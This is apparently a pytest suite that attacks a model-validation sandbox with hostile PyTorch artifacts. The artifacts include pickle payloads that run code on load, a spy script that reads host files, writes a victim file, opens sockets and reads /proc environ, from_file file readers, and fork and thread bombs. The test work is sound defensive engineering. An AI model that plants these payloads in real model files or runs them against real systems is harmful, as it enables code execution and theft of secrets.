"""Hostile model files against the validation gate, built here, run for real.

Each attack ends ``invalid`` with a clear reason while a host canary file stays
unread, a victim file unwritten, a listener socket unreached and the worker's
secrets unseen; a good model still validates afterwards. Two layers are proven
apart: the checks (pickle refusal, graph scan) through the public
``validate_version``, and the sandbox alone with the checks switched off
(``run_sandboxed(checks=False)``, a test-only switch) on the same artifacts.
"""

from __future__ import annotations

import hashlib
import json
import pickle
import shutil
import socket
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import torch
from torch import nn

from dashboard.aws import s3
from dashboard.registry import sandbox
from dashboard.registry.validation import (
    ValidationResult,
    parse_answer,
    run_sandboxed,
    validate_version,
)
from inference.artifact_safety import UnsafeArtifact, check_pt2, check_torchscript

BUCKET = "test-models"
CANARY_TEXT = "canary-7f3a9c-the-host-file-nobody-may-read"
VICTIM_TEXT = "victim-untouched"
SECRET = "worker-secret-5d1e0b-never-seen-by-a-model"

pytestmark = [
    pytest.mark.filterwarnings("ignore:`torch.jit.:DeprecationWarning"),
    pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs Debian's bubblewrap"),
]


# --- the host's side: what an attacker wants ----------------------------------


@dataclass
class Host:
    canary: Path
    victim: Path
    listener: socket.socket
    port: int
    connections: list[bytes]


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
    """A canary file, a victim file, a listening socket and a secret in the
    worker's environment, all within reach of an unsandboxed model."""
    canary = tmp_path / "canary.txt"
    canary.write_text(CANARY_TEXT)
    victim = tmp_path / "victim.txt"
    victim.write_text(VICTIM_TEXT)
    monkeypatch.setenv("MODELDECK_TEST_SECRET", SECRET)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.2)
    connections: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except (TimeoutError, OSError):
                continue
            with conn:
                connections.append(conn.recv(1024) or b"(connected)")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield Host(canary, victim, listener, listener.getsockname()[1], connections)
    stop.set()
    thread.join(timeout=2)
    listener.close()


def assert_nothing_escaped(host: Host, *results: Any) -> None:
    for result in results:
        text = json.dumps(result if isinstance(result, dict) else result.to_dict())
        assert CANARY_TEXT not in text
        assert SECRET not in text
    assert host.victim.read_text() == VICTIM_TEXT
    assert host.connections == []


# --- hostile artifacts ----------------------------------------------------------


class Classifier(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.hidden = nn.Linear(4, 8)
        self.out = nn.Linear(8, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.softmax(self.out(torch.relu(self.hidden(x))), dim=-1)


def scripted(source: str, path: Path) -> Path:
    """Save a TorchScript module whose forward is ``source`` (written to a file:
    torch.jit.script needs the source of what it compiles)."""
    module_file = path.with_suffix(".py")
    module_file.write_text(
        "import torch\nfrom typing import Dict, List, Tuple\n\n"
        "class Hostile(torch.nn.Module):\n"
        "    def forward(self, x: torch.Tensor):\n"
        + "".join(f"        {line}\n" for line in source.strip().splitlines())
    )
    namespace: dict[str, Any] = {}
    exec(compile(module_file.read_text(), str(module_file), "exec"), namespace)
    torch.jit.save(torch.jit.script(namespace["Hostile"]()), str(path))
    return path


class _Payload:
    """Unpickling this runs ``code`` (what a .pt2 with use_pickle gets torch to do)."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return (exec, (self.code,))


def pt2_with_pickle(code: str, path: Path, *, where: str = "weights") -> Path:
    """A real torch.export archive whose weights config asks for pickle (or whose
    constants hold an opaque object), with ``code`` in the pickled bytes."""
    good = path.with_name("good-" + path.name)
    torch.export.save(torch.export.export(Classifier().eval(), (torch.randn(1, 4),)), str(good))
    payload = pickle.dumps(_Payload(code), protocol=2)
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        root = source.namelist()[0].split("/", 1)[0]
        weights_config = f"{root}/data/weights/model_weights_config.json"
        constants_config = f"{root}/data/constants/model_constants_config.json"
        config = json.loads(source.read(weights_config))
        first = next(iter(config["config"].values()))
        for info in source.infolist():
            data = source.read(info)
            if where == "weights" and info.filename == weights_config:
                first["use_pickle"] = True
                data = json.dumps(config).encode()
            elif (
                where == "weights" and info.filename == f"{root}/data/weights/{first['path_name']}"
            ):
                data = payload
            elif where == "constants" and info.filename == constants_config:
                opaque = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": False,
                          "tensor_meta": None}  # fmt: skip
                data = json.dumps({"config": {"evil": opaque}}).encode()
                target.writestr(f"{root}/data/constants/opaque_obj_0", payload)
            target.writestr(info, data)
    return path


def spy(host: Host) -> str:
    """Python an attacker runs once loading gives it control: try everything,
    then raise what it saw (which is how it would leak through the record)."""
    return f"""
import os, sys
seen = ["uid:%d" % os.getuid(), "root:" + ",".join(sorted(os.listdir("/")))]
try:
    seen.append("canary:" + open({str(host.canary)!r}).read())
except Exception as exc:
    seen.append("canary-denied:" + type(exc).__name__)
try:
    with open({str(host.victim)!r}, "w") as out:
        out.write("pwned")
    seen.append("victim-written")
except Exception as exc:
    seen.append("victim-denied:" + type(exc).__name__)
try:
    import socket
    socket.create_connection(("127.0.0.1", {host.port}), timeout=2).sendall(b"leak")
    seen.append("connected")
except Exception as exc:
    seen.append("network-denied:" + type(exc).__name__)
for pid in (os.getppid(), 1):
    try:
        seen.append("environ:" + open("/proc/%d/environ" % pid, "rb").read().decode("latin-1"))
    except Exception as exc:
        seen.append("environ-denied:" + type(exc).__name__)
raise RuntimeError("spy " + " | ".join(seen))
"""


@dataclass(frozen=True)
class Artifact:
    path: Path
    sha256: str
    size: int
    format: str


def artifact(path: Path) -> Artifact:
    data = path.read_bytes()
    fmt = "torch.export" if path.suffix == ".pt2" else "torchscript"
    return Artifact(path, hashlib.sha256(data).hexdigest(), len(data), fmt)


def validate(item: Artifact, work_dir: Path, **overrides: Any) -> ValidationResult:
    key = f"models/iris/1.0/model{item.path.suffix}"
    version_id = s3.put_file(bucket=BUCKET, key=key, path=item.path)
    arguments: dict[str, Any] = {
        "bucket": BUCKET,
        "key": key,
        "s3_version_id": version_id,
        "expected_sha256": item.sha256,
        "expected_size": item.size,
        "format": item.format,
        "input_shape": [4],
        "input_dtype": "float32",
        "time_limit_seconds": 60,
        "memory_limit_mb": 1024,
        "work_dir": work_dir,
        "sandbox_mode": "bwrap",
    }
    arguments.update(overrides)
    return validate_version(**arguments)


def sandboxed(item: Artifact, tmp_path: Path, **overrides: Any) -> dict[str, Any]:
    """The sandbox alone: no pickle refusal, no graph scan."""
    copy = tmp_path / f"bypass-{item.path.name}"
    shutil.copy(item.path, copy)
    arguments: dict[str, Any] = {
        "path": copy,
        "format": item.format,
        "input_shape": [4],
        "input_dtype": "float32",
        "time_limit_seconds": 60,
        "memory_limit_mb": 1024,
        "mode": "bwrap",
        "checks": False,
    }
    arguments.update(overrides)
    return run_sandboxed(**arguments)


@pytest.fixture
def work_dir(tmp_path: Path) -> Iterator[Path]:
    folder = tmp_path / "work"
    folder.mkdir()
    yield folder
    assert list(folder.iterdir()) == []


@pytest.fixture
def good(tmp_path: Path) -> Artifact:
    torch.manual_seed(0)
    path = tmp_path / "good.pt"
    torch.jit.save(torch.jit.script(Classifier().eval()), str(path))
    return artifact(path)


def assert_good_still_validates(good: Artifact, work_dir: Path) -> None:
    result = validate(good, work_dir)
    assert result.ok, result.error
    assert result.sandbox == "bwrap"
    assert result.operators is not None and "aten::linear" in result.operators


# --- pickle in .pt2 -----------------------------------------------------------------


def test_pickle_in_pt2_is_refused_before_loading(
    aws: str, host: Host, tmp_path: Path, work_dir: Path, good: Artifact
) -> None:
    weights = artifact(pt2_with_pickle(spy(host), tmp_path / "weights.pt2"))
    constants = artifact(pt2_with_pickle(spy(host), tmp_path / "opaque.pt2", where="constants"))

    by_weights = validate(weights, work_dir)
    by_constants = validate(constants, work_dir)

    assert not by_weights.ok
    assert by_weights.error.startswith("data/weights/model_weights_config.json asks for pickle")
    assert not by_constants.ok
    assert "opaque or custom object" in by_constants.error
    assert by_weights.load_seconds is None  # nothing was loaded
    assert_nothing_escaped(host, by_weights, by_constants)
    assert_good_still_validates(good, work_dir)


def test_the_sandbox_contains_a_pickle_payload_on_its_own(
    host: Host, tmp_path: Path, good: Artifact, work_dir: Path, aws: str
) -> None:
    hostile = artifact(pt2_with_pickle(spy(host), tmp_path / "weights.pt2"))

    answer = sandboxed(hostile, tmp_path)

    # The payload ran (the checks were off) and saw nothing of the host.
    assert answer["kind"] == "load"
    error = answer["error"]
    assert "spy " in error
    assert "canary-denied:FileNotFoundError" in error
    assert "victim-denied:FileNotFoundError" in error
    assert "network-denied:PermissionError" in error  # seccomp: no sockets at all
    assert "uid:65534" in error
    # Its root holds the system's libraries, Python and the worker, nothing else.
    root = set(error.split("root:", 1)[1].split(" ", 1)[0].split(","))
    allowed = {"bin", "dev", "etc", "lib", "lib32", "lib64", "proc", "sbin", "tmp", "usr"}
    allowed |= {
        Path(p).resolve().parts[1] for p in (sys.prefix, sys.base_prefix, sandbox.WORKER_SCRIPT)
    }
    assert root <= allowed, root - allowed
    assert "home" not in root and "var" not in root
    assert "victim-written" not in error and "connected" not in error
    assert_nothing_escaped(host, answer)
    assert_good_still_validates(good, work_dir)


# --- from_file: read and write -------------------------------------------------------


def test_from_file_read_and_write_are_refused_by_the_graph_scan(
    aws: str, host: Host, tmp_path: Path, work_dir: Path, good: Artifact
) -> None:
    reader = artifact(
        scripted(
            f"t = torch.from_file({str(host.canary)!r}, shared=False, size=8, "
            "dtype=torch.uint8)\nreturn x + t.sum()",
            tmp_path / "reader.pt",
        )
    )
    writer = artifact(
        scripted(
            f"t = torch.from_file({str(host.victim)!r}, shared=True, size=8, "
            "dtype=torch.uint8)\nt.fill_(33)\nreturn x + t.sum()",
            tmp_path / "writer.pt",
        )
    )

    read = validate(reader, work_dir)
    written = validate(writer, work_dir)

    for result in (read, written):
        assert not result.ok
        assert result.error == "the model touched the file system: it calls aten::from_file"
    assert_nothing_escaped(host, read, written)
    assert_good_still_validates(good, work_dir)


def test_the_sandbox_alone_stops_from_file(
    aws: str, host: Host, tmp_path: Path, work_dir: Path, good: Artifact
) -> None:
    reader = artifact(
        scripted(
            f"t = torch.from_file({str(host.canary)!r}, shared=False, size=8, "
            "dtype=torch.uint8)\nreturn x + t.sum()",
            tmp_path / "reader.pt",
        )
    )
    writer = artifact(
        scripted(
            f"t = torch.from_file({str(host.victim)!r}, shared=True, size=8, "
            "dtype=torch.uint8)\nt.fill_(33)\nreturn x + t.sum()",
            tmp_path / "writer.pt",
        )
    )

    read = sandboxed(reader, tmp_path)
    written = sandboxed(writer, tmp_path)

    for answer in (read, written):
        assert answer["kind"] == "file_system"
        assert answer["error"] == (
            "the model touched the file system: it tried to open a file while running"
        )
        assert "aten::from_file" in answer["operators"]  # what the sandbox saw
    assert_nothing_escaped(host, read, written)
    assert_good_still_validates(good, work_dir)


def test_an_output_name_leaking_a_host_file_is_refused(
    aws: str, host: Host, tmp_path: Path, work_dir: Path, good: Artifact
) -> None:
    # The attack of issue 8: read a file, return it as a dict key (and so as
    # validation.output_shape, visible to every viewer).
    leaker = artifact(
        scripted(
            f"t = torch.from_file({str(host.canary)!r}, shared=False, size={len(CANARY_TEXT)}, "
            "dtype=torch.uint8)\n"
            "values: List[int] = t.tolist()\n"
            "name = ''.join([chr(v) for v in values])\n"
            "out: Dict[str, torch.Tensor] = {name: x}\nreturn out",
            tmp_path / "leaker.pt",
        )
    )
    # The same trick with a name that needs no file: control characters and all.
    named = artifact(
        scripted(
            "out: Dict[str, torch.Tensor] = {'root:x:0:0:\\x1b[31m\\n/etc/passwd': x}\nreturn out",
            tmp_path / "named.pt",
        )
    )

    leaked = validate(leaker, work_dir)
    bypassed = sandboxed(leaker, tmp_path)
    badly_named = validate(named, work_dir)

    assert leaked.error == "the model touched the file system: it calls aten::from_file"
    assert bypassed["kind"] == "file_system"
    assert not badly_named.ok
    assert badly_named.error == (
        "the model's output cannot be served: an output name is not allowed (names are 1-64 "
        "letters, digits, '.', '_' or '-', starting with a letter or digit)"
    )
    assert badly_named.output_shape is None
    assert "passwd" not in json.dumps(badly_named.to_dict())
    assert_nothing_escaped(host, leaked, bypassed, badly_named)
    assert_good_still_validates(good, work_dir)


# --- processes, memory, time ----------------------------------------------------


def test_a_fork_bomb_and_a_thread_bomb_are_bounded(
    aws: str, host: Host, tmp_path: Path, work_dir: Path, good: Artifact
) -> None:
    forks = artifact(
        pt2_with_pickle("import os\nwhile True:\n    os.fork()\n", tmp_path / "forks.pt2")
    )
    threads = artifact(
        pt2_with_pickle(
            "import threading, time\nstarted = []\n"
            "try:\n"
            "    while True:\n"
            "        t = threading.Thread(target=time.sleep, args=(30,), daemon=True)\n"
            "        t.start()\n"
            "        started.append(t)\n"
            "except RuntimeError as exc:\n"
            "    raise RuntimeError('started %d threads: %s' % (len(started), exc))\n",
            tmp_path / "threads.pt2",
        )
    )

    refused = validate(forks, work_dir)
    fork_answer = sandboxed(forks, tmp_path)
    thread_answer = sandboxed(threads, tmp_path)

    assert refused.error.startswith("data/weights/model_weights_config.json asks for pickle")
    assert fork_answer["kind"] == "load"
    assert "Operation not permitted" in fork_answer["error"]  # seccomp: no fork at all
    assert thread_answer["kind"] == "load"
    assert "can't start new thread" in thread_answer["error"]
    started = int(thread_answer["error"].split("started ", 1)[1].split(" ", 1)[0])
    assert started < sandbox.policy()["rlimits"]["nproc"]  # RLIMIT_NPROC held
    assert_nothing_escaped(host, refused, fork_answer, thread_answer)
    assert_good_still_validates(good, work_dir)


def test_a_memory_hog_hits_the_memory_limit(
    aws: str, tmp_path: Path, work_dir: Path, good: Artifact
) -> None:
    hog = artifact(
        scripted("big = torch.ones(268435456)\nreturn x + big.sum()", tmp_path / "hog.pt")
    )

    result = validate(hog, work_dir, memory_limit_mb=512)

    assert not result.ok
    assert result.error.startswith(
        "validation exceeded its memory limit of 512 MB while running the model's forward"
    )
    assert_good_still_validates(good, work_dir)


def test_an_infinite_loop_and_a_sleeper_are_stopped_with_their_whole_tree(
    aws: str, tmp_path: Path, work_dir: Path, good: Artifact
) -> None:
    spinner = artifact(
        scripted(
            "counter = torch.zeros(1)\nwhile bool(counter.sum() >= 0):\n"
            "    counter = counter + 1\nreturn x",
            tmp_path / "spinner.pt",
        )
    )
    sleeper = artifact(
        pt2_with_pickle(
            "import threading, time\n"
            "threading.Thread(target=time.sleep, args=(3600,)).start()\n"
            "time.sleep(3600)\n",
            tmp_path / "sleeper.pt2",
        )
    )

    looped = validate(spinner, work_dir, time_limit_seconds=4)
    slept = sandboxed(sleeper, tmp_path, time_limit_seconds=4)

    assert looped.error == "validation exceeded its time limit of 4 s"
    # Sleeping uses no CPU time: the wall clock stops it, and nothing is left behind.
    assert slept["error"] == "validation exceeded its time limit of 4 s"
    # The tree dies with bwrap (--die-with-parent, then its PID namespace).
    deadline = time.monotonic() + 10
    while _sandboxed_processes() and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _sandboxed_processes() == []
    assert_good_still_validates(good, work_dir)


def _sandboxed_processes() -> list[int]:
    """Processes of the sandbox's uid still running this worktree's worker."""
    uid = sandbox.policy()["identity"]["uid"]
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            if entry.stat().st_uid != uid:
                continue
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if str(sandbox.WORKER_SCRIPT).encode() in cmdline:
            found.append(int(entry.name))
    return found


# --- huge and forged answers ------------------------------------------------------


def test_huge_outputs_and_forged_answers_are_refused(
    aws: str, host: Host, tmp_path: Path, work_dir: Path, good: Artifact
) -> None:
    many = artifact(
        scripted(
            "out: List[torch.Tensor] = []\nfor i in range(5000):\n    out.append(x)\nreturn out",
            tmp_path / "many.pt",
        )
    )
    chatty = artifact(
        scripted(
            f"for i in range(20000):\n    print({'noise' * 200!r})\nreturn x[:, :3]",
            tmp_path / "chatty.pt",
        )
    )
    # With control of the process (checks off), write the answer pipe directly.
    flood = artifact(
        pt2_with_pickle(
            "import json, os, sys\nfd = json.loads(sys.argv[1])['answer_fd']\n"
            "os.write(fd, b'{' * 200000)\nos._exit(0)\n",
            tmp_path / "flood.pt2",
        )
    )
    forged = artifact(
        pt2_with_pickle(
            "import json, os, sys\nfd = json.loads(sys.argv[1])['answer_fd']\n"
            "os.write(fd, json.dumps({'ok': True, 'kind': 'ok', 'error': '', "
            "'output_shape': {'\\x1b[31mroot:x:0:0': [1, 3]}}).encode())\nos._exit(0)\n",
            tmp_path / "forged.pt2",
        )
    )

    too_many = validate(many, work_dir)
    noisy = validate(chatty, work_dir)
    flooded = sandboxed(flood, tmp_path)
    lied = sandboxed(forged, tmp_path)

    assert (
        too_many.error == "the model's output cannot be served: it returned more than 256 outputs"
    )
    assert noisy.ok, noisy.error  # printing is allowed; the output is bounded, not kept
    assert flooded["error"] == (
        f"the validation process answered with more than {sandbox.MAX_ANSWER_BYTES} bytes"
    )
    assert lied["kind"] == "died"
    assert lied["error"] == (
        "the validation process answered with a malformed result "
        "(an output name is not a valid name)"
    )
    assert_nothing_escaped(host, too_many, noisy, flooded, lied)
    assert_good_still_validates(good, work_dir)


def test_the_answer_parser_is_strict() -> None:
    good = {"ok": True, "kind": "ok", "error": "", "load_seconds": 0.5, "forward_ms": 1.0,
            "parameter_count": 67, "output_shape": {"probs": [1, 3]},
            "operators": ["aten::linear"]}  # fmt: skip
    assert parse_answer(json.dumps(good).encode())["output_shape"] == {"probs": [1, 3]}
    failed = {**good, "ok": False, "kind": "forward",
              "error": "bad\x1b[2J\n\u202eevil" + "x" * 1000}  # fmt: skip
    parsed = parse_answer(json.dumps(failed).encode())
    assert parsed["error"].startswith("bad [2J evil")
    assert len(parsed["error"]) == 400
    for broken, reason in [
        ({**good, "kind": "pwned"}, "unknown kind"),
        ({**good, "ok": False}, "ok does not match kind"),
        ({**good, "load_seconds": "1"}, "load_seconds is not a number"),
        ({**good, "parameter_count": -1}, "parameter_count is not a count"),
        ({**good, "output_shape": {"a b": [1]}}, "an output name is not a valid name"),
        ({**good, "output_shape": [[[[[[1]]]]]]}, "output_shape is nested too deep"),
        ({**good, "operators": ["rm -rf /"]}, "operators holds something other"),
    ]:
        with pytest.raises(ValueError, match=reason):
            parse_answer(json.dumps(broken).encode())
    with pytest.raises(ValueError, match="non-standard number"):
        parse_answer(b'{"ok": true, "kind": "ok", "error": "", "load_seconds": NaN}')


# --- failing closed ----------------------------------------------------------------


def test_without_bubblewrap_validation_fails_closed(
    aws: str, tmp_path: Path, work_dir: Path, good: Artifact, settings: Any
) -> None:
    settings.VALIDATION_BWRAP = str(tmp_path / "no-such-bwrap")
    missing = validate(good, work_dir)
    settings.VALIDATION_BWRAP = shutil.which("false") or "/bin/false"
    refused = validate(good, work_dir)

    assert not missing.ok
    assert missing.error == (
        f"the validation sandbox is not available: bubblewrap is not installed at "
        f"{tmp_path / 'no-such-bwrap'}"
    )
    assert not refused.ok
    assert refused.error.startswith(
        "the validation sandbox is not available: bubblewrap cannot create the sandbox's "
        "namespaces here"
    )
    assert "VALIDATION_SANDBOX=container" in refused.error


# --- the checks on their own (no torch needed) ---------------------------------------


def test_the_archive_checks_refuse_each_way_to_run_code(tmp_path: Path) -> None:
    good = tmp_path / "good.pt2"
    torch.export.save(torch.export.export(Classifier().eval(), (torch.randn(1, 4),)), str(good))
    check_pt2(str(good))  # a plain export passes

    def variant(edit: Any) -> Path:
        out = tmp_path / f"variant-{len(list(tmp_path.iterdir()))}.pt2"
        with zipfile.ZipFile(good) as source, zipfile.ZipFile(out, "w") as target:
            for info in source.infolist():
                data = source.read(info)
                name = info.filename.split("/", 1)[1]
                data = edit(name, data)
                if data is not None:
                    target.writestr(info, data)
        return out

    def model_json(change: Any) -> Any:
        def edit(name: str, data: bytes) -> bytes:
            if name == "models/model.json":
                document = json.loads(data)
                change(document)
                return json.dumps(document).encode()
            return data

        return edit

    def first_node(document: dict[str, Any]) -> dict[str, Any]:
        return document["graph_module"]["graph"]["nodes"][0]

    cases = {
        "system": model_json(lambda d: first_node(d).update(target="torch.os.system")),
        "from_file": model_json(
            lambda d: first_node(d).update(target="torch.ops.aten.from_file.default")
        ),
        "c10d": model_json(lambda d: first_node(d).update(target="torch.ops.c10d.send.default")),
        "guards": model_json(lambda d: d.update(guards_code=["__import__('os').system('id')"])),
        "sympy": model_json(
            lambda d: first_node(d)["outputs"].append(
                {"as_sym_int": {"as_expr": {"expr_str": "__import__('os').system('id')"}}}
            )
        ),
        "aoti": lambda name, data: data,
    }
    reasons = {}
    for label, edit in cases.items():
        path = variant(edit)
        if label == "aoti":
            with zipfile.ZipFile(path, "a") as archive:
                archive.writestr("good/data/aotinductor/model/model.so", b"\x7fELF")
        with pytest.raises(UnsafeArtifact) as refused:
            check_pt2(str(path))
        reasons[label] = str(refused.value)
    assert reasons["system"].startswith("the graph calls torch.os.system, which is not an operator")
    assert reasons["from_file"] == "the model touched the file system: it calls aten::from_file"
    assert reasons["c10d"] == "the model reaches for the network: it calls c10d::send"
    assert "guard code" in reasons["guards"]
    assert "torch would evaluate it as Python" in reasons["sympy"]
    assert "compiled native code" in reasons["aoti"]

    # torch.export's legacy layout, loaded with pickle: refused as well.
    legacy = variant(
        lambda name, data: data if name not in {"archive_format", "archive_version"} else None
    )
    with zipfile.ZipFile(legacy, "a") as archive:
        archive.writestr("good/serialized_exported_program.json", b"{}")
    with pytest.raises(UnsafeArtifact, match="old format"):
        check_pt2(str(legacy))


def test_torchscript_text_check_sees_setstate(tmp_path: Path) -> None:
    module_file = tmp_path / "stateful.py"
    module_file.write_text(
        "import torch\nfrom typing import List\n\n"
        "class Stateful(torch.nn.Module):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.n = 1\n"
        "    @torch.jit.export\n"
        "    def __getstate__(self) -> List[int]:\n"
        "        return [self.n]\n"
        "    @torch.jit.export\n"
        "    def __setstate__(self, state: List[int]) -> None:\n"
        "        self.training = False\n"
        "        t = torch.from_file('/etc/hostname', shared=False, size=1, dtype=torch.uint8)\n"
        "        self.n = state[0] + int(t.sum())\n"
        "    def forward(self, x: torch.Tensor) -> torch.Tensor:\n"
        "        return x\n"
    )
    namespace: dict[str, Any] = {}
    exec(compile(module_file.read_text(), str(module_file), "exec"), namespace)
    path = tmp_path / "stateful.pt"
    torch.jit.save(torch.jit.script(namespace["Stateful"]()), str(path))

    with zipfile.ZipFile(path) as archive:
        code = "".join(archive.read(n).decode() for n in archive.namelist() if n.endswith(".py"))
    assert "def __setstate__" in code and "from_file" in code
    # __setstate__ runs while torch.jit.load loads: refused before that.
    with pytest.raises(UnsafeArtifact, match="aten::from_file"):
        check_torchscript(str(path))


# --- a checkout under /tmp ------------------------------------------------------------


def test_a_checkout_under_tmp_is_visible_inside_the_private_tmp(
    tmp_path: Path, good: Artifact, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The sandbox mounts an empty /tmp of its own. A checkout under /tmp (a CI
    clone made with mktemp) must still be bound on top of it: here the worker
    script the sandbox runs lives under /tmp, as it would in such a clone."""
    if not tmp_path.resolve().is_relative_to("/tmp"):
        pytest.skip(f"needs pytest's temporary folder under /tmp, not {tmp_path}")
    checkout = tmp_path / "clone" / "dashboard" / "registry"
    checkout.mkdir(parents=True)
    script = checkout / "validate_worker.py"
    shutil.copy(sandbox.WORKER_SCRIPT, script)
    monkeypatch.setattr(sandbox, "WORKER_SCRIPT", script)

    answer = sandboxed(good, tmp_path, checks=True)

    assert answer.get("ok") is True, answer
